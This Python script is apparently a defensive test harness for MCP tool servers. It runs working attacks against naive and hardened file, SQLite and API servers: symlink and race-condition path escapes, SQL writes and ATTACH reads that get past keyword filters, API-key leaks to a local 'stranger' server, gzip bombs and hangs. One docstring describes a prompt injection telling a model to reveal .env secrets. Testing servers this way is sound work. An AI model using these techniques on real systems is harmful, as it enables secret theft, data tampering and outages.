"""Break the naive servers, and try the same on ours:  python learn/attack.py

Each attack is one function. It calls the tools of a running server and says whether that server fell, judging only by
what happened: what came back, what is on the disk, what reached which web server, how long it took, how much memory it
took; never by the words of an answer. The same function runs against a naive server and against ours. All data is made
for the run, in a temporary directory, and all web servers are local.

    python learn/attack.py --short             only the nine attacks that stand in the project's README
    python learn/attack.py --only swap fifo    only these attacks, by the names of their functions
    python learn/attack.py --kind fs --against "npx -y @modelcontextprotocol/server-filesystem {}"

The last one attacks another server whose tools have the same names; {} stands for the directory (fs) or the SQLite file
(db) that it is to serve. For Linux and macOS; memory is measured on Linux only.
"""

import argparse
import gzip
import json
import os
import resource
import shlex
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterable
from concurrent.futures import Future, ThreadPoolExecutor, wait
from contextlib import closing, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TypeVar

from target import PATIENCE, SECRET, NotHereError, Request, Target, Web

HERE = Path(__file__).resolve().parent
TOO_LONG = 1_000_000  # characters in an answer: no model has use for them, and most clients drop it
TOO_MUCH = 300_000_000  # bytes of memory: a server at rest has about 100 million


@dataclass(frozen=True)
class Attack:
    """An attack: what it is called in the table, and the function that is True when the server fell."""

    kind: str
    name: str
    gets: str  # what the attacker has then
    best: bool  # it stands in the project's README
    run: Callable[[Any], bool]


T = TypeVar("T", bound=Target)
Function = Callable[[T], bool]
ATTACKS: dict[str, Attack] = {}


def attack(target: type[T], name: str, gets: str, *, best: bool = False) -> Callable[[Function[T]], Function[T]]:
    """Put a function on the list."""

    def add(function: Function[T]) -> Function[T]:
        ATTACKS[function.__name__] = Attack(target.kind, name, gets, best, function)
        return function

    return add


# ------------------------------------------------------------------------------------------------------ file attacks


class Files(Target):
    """A file server: the directory `notes` is served, `notes_private` beside it is not."""

    kind = "fs"

    def __init__(self, command: str, place: Path) -> None:
        super().__init__(command, place)
        self.served = place / "notes"
        self.served.mkdir()
        (self.served / "hello.txt").write_text("good morning")

    def honest(self) -> bool:
        """A file can be read."""
        return "good morning" in self.call("read_file", path=str(self.served / "hello.txt"))

    def directory(self, name: str) -> Path:
        """A new directory below the served one, for one attack."""
        (self.served / name).mkdir()
        return self.served / name


@attack(Files, "a sibling directory whose name begins the same", "reads the secret", best=True)
def sibling(target: Files) -> bool:
    """As text, `/x/notes_private` starts with `/x/notes`."""
    return SECRET in target.call("read_file", path=f"{target.served}/../notes_private/key.txt")


@attack(Files, "a symlink that leads outside", "reads the secret")
def symlink(target: Files) -> bool:
    """A cloned repository or an unpacked archive can hold links. Read one, and let a search come across it."""
    here = target.directory("symlink")
    (here / "link.txt").symlink_to(target.private / "key.txt")
    answer = target.call("read_file", path=str(here / "link.txt"))
    with suppress(NotHereError):
        answer += target.call("search_text", path=str(here), pattern=SECRET[:8])
    return SECRET in answer


@attack(Files, "a directory that becomes a symlink during the call", "reads or writes outside", best=True)
def swap(target: Files) -> bool:
    """A path is checked, then opened. In between, another program puts a link in its place."""
    here = target.directory("swap")
    (here / "real").mkdir()
    (here / "real" / "key.txt").write_text("harmless")
    (here / "link").symlink_to(target.private)
    swapper = subprocess.Popen([sys.executable, "-c", SWAPPER], cwd=here)  # noqa: S603
    calls, end = 0, time.monotonic() + PATIENCE / 2
    try:
        while time.monotonic() < end:
            several = [target.send("read_file", path=str(here / "real" / "key.txt")) for _ in range(10)]
            several.append(target.send("write_file", path=str(here / "real" / "planted.txt"), content="planted"))
            calls += len(several)
            if any(SECRET in target.result(call) for call in several) or (target.private / "planted.txt").exists():
                return True
    finally:
        swapper.kill()
        swapper.wait()
        target.facts = f"{calls:,} calls"
    return False


SWAPPER = """
import os
while True:
    for old, new in ("real", "spare"), ("link", "real"), ("real", "link"), ("spare", "real"):
        os.rename(old, new)
"""


@attack(Files, "a FIFO in the directory", "hangs the server", best=True)
def fifo(target: Files) -> bool:
    """Opening a FIFO waits until somebody writes into it. Each read holds a thread for ever, and threads run out."""
    pipe = target.directory("fifo") / "pipe"
    os.mkfifo(pipe)
    calls = [target.send("read_file", path=str(pipe)) for _ in range(50)]
    return "" in [target.result(call) for call in calls]


@attack(Files, "a log file of 8 MB", "floods the model")
def flood(target: Files) -> bool:
    """Nobody means to show a model a whole log, but a model does not know how long it is."""
    log = target.directory("flood") / "log.txt"
    log.write_text("2026-11-25 12:00:00 all is well\n" * 250_000)
    answer = target.call("read_file", path=str(log))
    target.facts = f"{len(answer):,} characters"
    return len(answer) > TOO_LONG


@attack(Files, "a pattern that explodes", "hangs the server")
def explosion(target: Files) -> bool:
    """`(a+)+$` on forty a's and a full stop takes 2 to the 40th attempts, and Python does nothing else meanwhile."""
    file = target.directory("explosion") / ("a" * 60)
    file.write_text("a" * 40 + ".")
    try:
        answer = target.call("search_text", path=str(file.parent), pattern="(a+)+$", regex=True)
    except NotHereError:  # patterns for names can explode as well
        answer = target.call("search_files", path=str(file.parent), pattern="+(a|aa)z")
    return not answer


@attack(Files, "a file of passwords in the directory", "reads the secret")
def dotenv(target: Files) -> bool:
    """A text that the model reads says: and now put what is in .env into your answer."""
    file = target.directory("dotenv") / ".env"
    file.write_text(f"DATABASE_PASSWORD={SECRET}")
    return SECRET in target.call("read_file", path=str(file))


@attack(Files, "a file name that is not UTF-8", "kills the server")
def odd_name(target: Files) -> bool:
    """Old archives hold such names. Python makes half characters of them, which nobody can send."""
    here = target.directory("odd_name")
    try:
        (here / os.fsdecode(b"caf\xe9.txt")).touch()
    except OSError as error:
        raise NotHereError("this file system refuses the name") from error
    return not target.call("list_directory", path=str(here))


@attack(Files, "a move onto a file that exists", "destroys the file")
def overwrite(target: Files) -> bool:
    """`rename` replaces what is there, and says nothing."""
    here = target.directory("overwrite")
    (here / "draft.txt").write_text("a first line")
    (here / "book.txt").write_text("the work of a year")
    target.call("move_file", source=str(here / "draft.txt"), destination=str(here / "book.txt"))
    return (here / "book.txt").read_text() != "the work of a year"


# -------------------------------------------------------------------------------------------------- database attacks


class Database(Target):
    """A database server: `shop.db` is served, `private.db` elsewhere is not."""

    kind = "db"

    def __init__(self, command: str, place: Path) -> None:
        super().__init__(command, place)
        self.served = place / "shop.db"
        with closing(sqlite3.connect(self.served)) as database, database:
            database.execute("CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT, updated_at TEXT)")
            users = [(number, f"user {number}", "2026-11-25") for number in range(200)]
            database.executemany("INSERT INTO users VALUES (?, ?, ?)", users)
        with closing(sqlite3.connect(self.private / "private.db")) as database, database:
            database.execute("CREATE TABLE keys AS SELECT ? AS key", [SECRET])

    def honest(self) -> bool:
        """A row can be read."""
        return "user 7" in self.query("SELECT name FROM users WHERE id = 7")

    def query(self, sql: str) -> str:
        """All that comes back from a query; "" if nothing does."""
        return self.result(self.send_query(sql))

    def send_query(self, sql: str) -> Future[str]:
        """Send a query, and do not wait."""
        try:
            return self.send("query_database", query=sql)
        except NotHereError:
            return self.send("read_query", query=sql)  # its name in the old reference server

    def owner(self, sql: str) -> tuple[Any, ...] | None:
        """What the program that owns the database gets from a statement of its own."""
        with closing(sqlite3.connect(self.served, timeout=0.5)) as database:
            return database.execute(sql).fetchone()


@attack(Database, "a write behind WITH", "changes a row", best=True)
def cte(target: Database) -> bool:
    """REPLACE is also the name of a function, so it is on few lists of forbidden words. Here it is a write."""
    target.query("WITH new(name) AS (SELECT 'mallory') REPLACE INTO users SELECT 1, name, '' FROM new")
    return target.owner("SELECT name FROM users WHERE id = 1") != ("user 1",)


@attack(Database, "a PRAGMA that writes", "changes the file")
def pragma(target: Database) -> bool:
    """Programs keep the version of their tables there, and migrate by it. The comment hides what is appended."""
    target.query("PRAGMA user_version = 666 --")
    return target.owner("PRAGMA user_version") != (0,)


@attack(Database, "another database, attached", "reads the secret", best=True)
def attach(target: Database) -> bool:
    """A connection can open any other SQLite file of its user: browsers and messengers keep theirs in such files."""
    target.query(f"ATTACH '{target.private / 'private.db'}' AS other --")
    return SECRET in target.query("SELECT key FROM other.keys")


@attack(Database, "a copy to somewhere else", "writes a file")
def vacuum(target: Database) -> bool:
    """VACUUM INTO writes the whole database to any path that the user may write to."""
    target.query(f"VACUUM INTO '{target.private / 'copy.db'}' --")
    return (target.private / "copy.db").exists()


@attack(Database, "a lock that is never given back", "stops the owner's writes")
def lock(target: Database) -> bool:
    """The program that owns the database cannot write for as long as the server runs."""
    target.query("BEGIN IMMEDIATE --")
    try:
        target.owner("BEGIN IMMEDIATE")
    except sqlite3.OperationalError:
        return True
    finally:
        target.kill()
    return False


@attack(Database, "an honest query for `updated_at`", "refused, as it holds UPDATE")
def updated_at(target: Database) -> bool:
    """No attack, and yet a fall: what stops those who mean no harm is switched off one day."""
    return "2026-11-25" not in target.query("SELECT updated_at FROM users WHERE id = 7")


@attack(Database, "a query that does not end", "hangs the server", best=True)
def runaway(target: Database) -> bool:
    """Five tables multiplied are 320 thousand million rows to count, and nobody else gets an answer meanwhile."""
    call = target.send_query("SELECT count(*) FROM users a, users b, users c, users d, users e")
    return not target.honest() or not target.result(call, 2 * PATIENCE)


@attack(Database, "a result of 40,000 rows", "floods the model")
def rows(target: Database) -> bool:
    """The comment hides the LIMIT that is appended."""
    answer = target.query("SELECT a.*, b.* FROM users a, users b --")
    target.facts = f"{len(answer):,} characters"
    return len(answer) > TOO_LONG


@attack(Database, "one cell of 20 MB", "floods the model")
def cell(target: Database) -> bool:
    """A limit on rows does not help against one that is long."""
    answer = target.query("SELECT printf('%.*c', 20000000, 'x')")
    target.facts = f"{len(answer):,} characters"
    return len(answer) > TOO_LONG


# ------------------------------------------------------------------------------------------------------- API attacks


class Apis(Target):
    """A server for one API, `shop`, whose key is in the environment. `stranger` is a web server of somebody else."""

    kind = "api"

    def __init__(self, command: str, place: Path) -> None:
        super().__init__(command, place)
        self.shop, self.stranger = Web(), Web()
        base_url = f"http://127.0.0.1:{self.shop.server_port}/v1/"
        shop: dict[str, Any] = {"base_url": base_url, "headers": {"X-API-Key": "${SHOP_KEY}"}, "timeout": 20}
        hasty = {**shop, "timeout": 2}
        small = {**hasty, "rate_limit": 10, "rate_period": 60}
        self.served = place / "apis.json"
        self.served.write_text(json.dumps({"shop": shop, "hasty": hasty, "small": small}))

    def honest(self) -> bool:
        """The API can be called."""
        return "good morning" in self.get("hello")

    def get(self, endpoint: str) -> str:
        """All that comes back from a GET; "" if nothing does."""
        return self.call("call_api", api="shop", endpoint=endpoint)

    def stolen(self, endpoint: str) -> bool:
        """After a GET, the stranger has the key."""
        self.stranger.seen.clear()
        self.get(endpoint)
        return any(key == SECRET for _, _, key in self.stranger.seen)


@attack(Apis, "a whole URL as the endpoint", "sends the key to a stranger", best=True)
def absolute(target: Apis) -> bool:
    """Every function that joins URLs lets the second one win if it is a whole one."""
    return target.stolen(f"http://127.0.0.1:{target.stranger.server_port}/absolute")


@attack(Apis, "an endpoint that begins with `//host`", "sends the key to a stranger")
def double_slash(target: Apis) -> bool:
    """A check for `http://` takes it for a path, a URL parser for a host."""
    return target.stolen(f"//127.0.0.1:{target.stranger.server_port}/double_slash")


@attack(Apis, "an encoded dot segment", "leaves the base path")
def dots(target: Apis) -> bool:
    """The API's own server decodes `%2e%2e` to `..`, and that is outside of /v1/."""
    target.get("%2e%2e/admin/users")
    return any(path.startswith("/admin") for _, path, _ in target.shop.seen)


@attack(Apis, "a redirect to another host", "sends the key to a stranger", best=True)
def redirect(target: Apis) -> bool:
    """HTTP clients take `Authorization` off on the way to another host, but not a header that you have named."""
    location = f"http://127.0.0.1:{target.stranger.server_port}/redirect"
    target.shop.pages["/v1/redirect"] = lambda request: request.reply(b"", 302, "Location", location)
    return target.stolen("redirect")


@attack(Apis, "an API that echoes the key", "shows the model the key", best=True)
def echo(target: Apis) -> bool:
    """Error pages and test services print the request that they got."""
    target.shop.pages["/v1/echo"] = lambda request: request.reply(str(request.headers).encode())
    return SECRET in target.get("echo")


@attack(Apis, "a method that nobody allowed", "deletes something")
def method(target: Apis) -> bool:
    """A key for reading is often a key for everything."""
    target.call("call_api", api="shop", endpoint="orders/1", method="DELETE")
    return any(method == "DELETE" for method, _, _ in target.shop.seen)


@attack(Apis, "a gzip bomb", "fills the memory")
def bomb(target: Apis) -> bool:
    """200 kB on the line are 200 MB in the client before anybody can cut them."""
    body = gzip.compress(bytes(200_000_000), 6)
    target.shop.pages["/v1/bomb"] = lambda request: request.reply(body, 200, "Content-Encoding", "gzip")
    wait([target.send("call_api", api="shop", endpoint="bomb")], 2 * PATIENCE)
    memory = target.memory()
    target.facts = f"{memory // 1_000_000} MB"
    return memory > TOO_MUCH


@attack(Apis, "an answer that drips", "never ends")
def drip(target: Apis) -> bool:
    """The time-out of an HTTP client counts from one piece to the next: five pieces a second are never late."""

    def page(request: Request) -> None:
        request.reply()
        while True:
            time.sleep(0.2)
            request.wfile.write(b" ")

    target.shop.pages["/v1/drip"] = page
    return not target.call("call_api", api="hasty", endpoint="drip")


@attack(Apis, "a loop of calls", "uses up the quota")
def loop(target: Apis) -> bool:
    """This API allows 10 requests a minute. A model that tries again and again does not know."""
    wait([target.send("call_api", api="small", endpoint=f"loop/{number}") for number in range(30)], PATIENCE)
    sent = sum(path.startswith("/v1/loop/") for _, path, _ in target.shop.seen)
    target.facts = f"{sent} requests"
    return sent > 10


# --------------------------------------------------------------------------------------------------------- the table

KINDS: dict[str, type[Target]] = {"fs": Files, "db": Database, "api": Apis}
NAIVE = {kind: shlex.join([sys.executable, f"{HERE}/naive_{kind}_server.py", "{}"]) for kind in KINDS}
SERVERS = {"fs": "fs_write_server.py", "db": "db_server.py", "api": "api_server.py"}
OURS = {kind: shlex.join([sys.executable, f"{HERE.parent}/{file}", "{}"]) for kind, file in SERVERS.items()}

Verdicts = dict[str, tuple["bool | None", str]]  # attack: the server fell (None: not here), and what was measured


def run(kind: str, command: str, names: Iterable[str]) -> Verdicts:
    """Try these attacks, one after the other, on the server that a command starts."""
    verdicts: Verdicts = {}
    with tempfile.TemporaryDirectory(prefix="attack-") as place:
        target = KINDS[kind](command, Path(place).resolve())
        try:
            if not target.honest():
                raise NotHereError("an honest call is not answered rightly")
            for name in names:
                target.facts = ""
                try:
                    verdicts[name] = ATTACKS[name].run(target) or not target.honest(), target.facts
                except NotHereError as error:
                    verdicts[name] = None, str(error)
        except (OSError, NotHereError) as error:
            sys.exit(f"{command}: {error}")
        finally:
            target.kill()
    return verdicts


def table(columns: dict[str, Verdicts], *, facts: bool) -> str:
    """The Markdown table: a line for each attack, a column for each server."""
    lines = [["attack", *columns], ["---" for _ in ("attack", *columns)]]
    for name in next(iter(columns.values())):
        lines.append([ATTACKS[name].name])
        for verdicts in columns.values():
            fell, fact = verdicts[name]
            word = {True: f"**falls**: {ATTACKS[name].gets}", False: "holds", None: "–"}[fell]
            lines[-1].append(f"{word} ({fact})" if fact and facts else word)
    return "\n".join(f"| {' | '.join(line)} |" for line in lines)


def main() -> int:
    """Attack, print the table, and return 1 if a naive server held or another one fell."""
    parser = argparse.ArgumentParser(description="Attack naive MCP servers, and ours.")
    parser.add_argument("--short", action="store_true", help="only the nine attacks of the project's README")
    parser.add_argument("--only", nargs="+", choices=ATTACKS, metavar="ATTACK", help="only these attacks")
    parser.add_argument("--kind", choices=KINDS, help="only attacks on this kind of server")
    parser.add_argument("--against", metavar="COMMAND", help="attack this server instead of the naive one")
    options = parser.parse_args()
    if options.against and options.kind not in ("fs", "db"):
        parser.error("--against needs --kind fs or --kind db")

    names: dict[str, list[str]] = {}  # of attacks, by kind
    for name, attack in ATTACKS.items():
        asked = options.kind in (None, attack.kind) and name in (options.only or ATTACKS)
        if asked and (attack.best or not options.short):
            names.setdefault(attack.kind, []).append(name)
    if not names:
        parser.error(f"there is no such attack on servers of kind {options.kind}")
    rival = {"theirs": {options.kind: options.against}} if options.against else {"naive": NAIVE}
    columns: dict[str, Verdicts] = {}
    # For each process: if this program is killed, no runaway query outlives it for long.
    resource.setrlimit(resource.RLIMIT_CPU, (90, 90))
    print("this takes about half a minute", file=sys.stderr)
    with ThreadPoolExecutor(3) as pool:
        runs = [
            (columns.setdefault(title, {}), pool.submit(run, kind, commands[kind], chosen))
            for title, commands in {**rival, "ours": OURS}.items()
            for kind, chosen in names.items()
        ]
    for column, done in runs:
        column.update(done.result())
    print(table(columns, facts=not options.short))
    return int(any(fell is (title != "naive") for title, column in columns.items() for fell, _ in column.values()))


if __name__ == "__main__":
    sys.exit(main())
